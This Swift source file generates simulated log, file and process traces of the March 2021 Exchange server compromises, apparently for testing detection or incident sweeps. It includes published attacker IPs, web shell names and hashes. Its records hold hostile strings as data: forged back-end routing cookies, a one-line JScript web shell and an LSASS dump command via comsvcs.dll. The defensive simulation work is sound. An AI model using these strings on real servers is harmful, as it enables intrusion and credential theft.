/// What the March 2021 attacks left on a server, as the observations an internal sweep finds, or
/// as the verdict an external scanner reports.
///
/// Each compromised server gets the request forgery in its HttpProxy logs and a web shell, and
/// some of the later steps (the ECP and OAB log lines, the UM crash, the LSASS dump, a staging
/// archive): the published indicators are meant to find every one of these.
struct CompromiseTrace: Sendable {
    var server: ServerContext

    /// The trace of an exploitation on a server whose logs were swept.
    func observations(random: inout SplitMix64) -> [JSONText] {
        let start = random.below(ServerContext.window.upperBound - 86_400)
        let attacker = random.chance(0.5) ? random.pick(Self.attackerAddresses) : "203.0.113." + String(random.within(1...254))
        let agent = random.pick(Self.attackerAgents)
        let shell = random.pick(Self.shellNames)
        let stem = "/ecp/" + random.pick(["y", "x", "z", "a", "ab"]) + ".js"
        var trace: [JSONText] = []
        // The forged back-end requests: autodiscover first (excluded by the indicator on purpose), then
        // the mailbox, the ECP logon and the virtual directory reset.
        let anchors = [
            "ServerInfo~a]@" + server.hostname + ":444/autodiscover/autodiscover.xml?#",
            "ServerInfo~a]@" + server.hostname + ":444/mapi/emsmdb/?#",
            "ServerInfo~a]@" + server.hostname + ":444/ecp/proxyLogon.ecp?#",
            "ServerInfo~a]@" + server.hostname + ":444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" + random.hex(bytes: 10) + "&schema=ResetOABVirtualDirectory#",
        ]
        for (step, anchor) in anchors.enumerated() where step < 3 || random.chance(0.6) {
            let second = start + 2 * step
            trace.append(.members([
                "type": "http-request", "time": .string(ServerContext.time(second)),
                "source": .string(server.logFile("HttpProxy\\Ecp", prefix: "HttpProxy_", second: second)),
                "method": "POST", "url": .string(stem), "status": 200, "client_ip": .string(attacker), "user_agent": .string(agent),
                "host": .string(server.hostname), "log": "HttpProxy/Ecp",
                "fields": .members([
                    "AnchorMailbox": .string(anchor), "RoutingHint": "X-BEResource-Cookie", "AuthenticatedUser": "",
                    "HttpStatus": "200", "UrlStem": .string(stem),
                ]),
            ]))
        }
        let written = start + 40
        let shellPath = random.chance(0.75)
            ? "C:\\inetpub\\wwwroot\\aspnet_client\\" + random.pick(["", "system_web\\"]) + shell
            : server.installFolder + "\\FrontEnd\\HttpProxy\\owa\\auth\\" + shell
        trace.append(.members([
            "type": "file", "path": .string(shellPath),
            "sha256": .string(random.chance(0.6) ? random.pick(Self.shellHashes) : random.hex(bytes: 32)),
            "size": .integer(random.within(1_100...2_400)), "modified": .string(ServerContext.time(written)),
        ]))
        if random.chance(0.5) {
            trace.append(.members([
                "type": "log-line", "time": .string(ServerContext.time(start + 8)), "log": "ECP/Server",
                "text": .string(ServerContext.time(start + 8) + ",EXCH,ECP.Request,\"S:TIME=3021;S:RS=0;S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"p\"\"],\"\"unsafe\"\");}</script>''.Identity=''" + random.hex(bytes: 4) + "''\""),
            ]))
        }
        if random.chance(0.3) {
            trace.append(.members([
                "type": "log-line", "time": .string(ServerContext.time(written)), "log": "OABGeneratorLog",
                "text": .string(ServerContext.time(written) + ",0,OABGenerator,Download failed and temporary file '" + shellPath + "' needs to be removed."),
            ]))
        }
        if random.chance(0.2) {
            trace.append(.members([
                "type": "event", "time": .string(ServerContext.time(start + 600)), "channel": "Application",
                "provider": "MSExchange Unified Messaging", "event_id": 1001, "level": "Error",
                "message": "An unhandled exception occurred in the UM worker process. System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' to the expected type.",
            ]))
        }
        if random.chance(0.3) {
            let dump = random.pick(["C:\\root\\lsass.dmp", "C:\\Windows\\Temp\\lsass_" + random.hex(bytes: 2) + ".dmp"])
            trace.append(.members([
                "type": "process", "time": .string(ServerContext.time(start + 3600)), "name": "rundll32.exe",
                "command_line": .string("C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 692 " + dump + " full"),
                "parent_name": "w3wp.exe", "user": "NT AUTHORITY\\SYSTEM",
            ]))
            trace.append(.members([
                "type": "file", "path": .string(dump), "size": .integer(random.within(40_000_000...60_000_000)),
                "modified": .string(ServerContext.time(start + 3601)),
            ]))
            if random.chance(0.5) {
                trace.append(.members([
                    "type": "file", "path": .string("C:\\ProgramData\\" + random.pick(["dump.7z", "cache.zip", "a.rar"])),
                    "size": .integer(random.within(5_000_000...20_000_000)), "modified": .string(ServerContext.time(start + 3700)),
                ]))
            }
        }
        return trace
    }

    /// The verdict of a scanner that found a web shell answering from the internet
    /// (Shadowserver's `exchange;webshell` tag).
    func detection(random: inout SplitMix64) -> JSONText {
        .members([
            "type": "detection", "time": "2021-03-10T02:00:00Z", "source": "upstream scanner feed", "name": "exchange;webshell",
            "url": .string("https://" + server.hostname + "/aspnet_client/" + random.pick(Self.shellNames)),
            "detail": "Known web shell path answered HTTP 200.",
        ])
    }

    /// Web shell names seen in the campaign.
    static let shellNames = [
        "supp0rt.aspx", "discover.aspx", "shell.aspx", "HttpProxy.aspx", "OutlookEN.aspx", "errorEE.aspx", "web.aspx",
        "help.aspx", "healthcheck.aspx", "aspnet_www.aspx", "aspnet_client.aspx", "xx.aspx", "one.aspx", "log.aspx",
        "shel90.aspx", "8Lw7tAhF9i1pJnRo.aspx", "RedirSuiteServerProxy.aspx",
    ]

    /// The web shell hashes Microsoft published on 2 March 2021.
    static let shellHashes = [
        "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0",
        "097549cf7d0f76f0d99edf8b2d91c60977fd6a96e4b8c3c94b0b1733dc026d3e",
        "2b6f1ebb2208e93ade4a6424555d6a8341fd6d9f60c25e44afe11008f5c1aad1",
        "65149e036fff06026d80ac9ad4d156332822dc93142cf1a122b1841ec8de34b5",
        "511df0e2df9bfa5521b588cc4bb5f8c5a321801b803394ebc493db1ef3c78fa1",
        "4edc7770464a14f54d17f36dc9d0fe854f68b346b27b35a6f5839adf1f13f8ea",
        "811157f9c7003ba8d17b45eb3cf09bef2cecd2701cedb675274949296a6a183d",
        "1631a90eb5395c4e19c7dbcbf611bbe6444ff312eb7937e286e4637cb9e72944",
    ]

    /// Addresses Volexity saw exploiting the vulnerabilities (repeated by CISA).
    static let attackerAddresses = [
        "103.77.192.219", "104.140.114.110", "104.250.191.110", "108.61.246.56", "149.28.14.163", "157.230.221.198",
        "167.99.168.251", "185.250.151.72", "192.81.208.169", "203.160.69.66", "211.56.98.146", "5.2.69.14", "5.254.43.18",
        "80.92.205.81", "91.192.103.43",
    ]

    /// User agents seen in the exploitation.
    static let attackerAgents = [
        "python-requests/2.25.1", "python-requests/2.19.1", "ExchangeServicesClient/0.0.0.0", "antSword/v2.1",
        "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)",
        "Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)",
    ]

    /// What makes a server only suspicious: a contact from an attacker's address, or an exploit
    /// tool's user agent posting to a web folder, with no sign that anything succeeded.
    func suspiciousObservation(random: inout SplitMix64) -> JSONText {
        let second = random.below(ServerContext.window.upperBound)
        let fromAttacker = random.chance(0.5)
        let url = fromAttacker ? "/owa/auth/logon.aspx" : "/owa/auth/Current/themes/resources/" + random.pick(["logon.css", "owafont_ja.css", "lgnbotl.gif"])
        return .members([
            "type": "http-request", "time": .string(ServerContext.time(second)),
            "source": .string(server.logFile("HttpProxy\\Owa", prefix: "HttpProxy_", second: second)),
            "method": .string(fromAttacker ? "GET" : "POST"), "url": .string(url), "status": .integer(fromAttacker ? 200 : 404),
            "client_ip": .string(fromAttacker ? random.pick(Self.attackerAddresses) : "198.51.100." + String(random.within(1...254))),
            "user_agent": .string(fromAttacker ? ServerActivity.browsers[0] : random.pick(Self.attackerAgents)),
            "host": .string(server.hostname), "log": "HttpProxy/Owa",
            "fields": .members(["AnchorMailbox": "", "AuthenticatedUser": "", "HttpStatus": .string(fromAttacker ? "200" : "404"), "UrlStem": .string(url)]),
        ])
    }
}
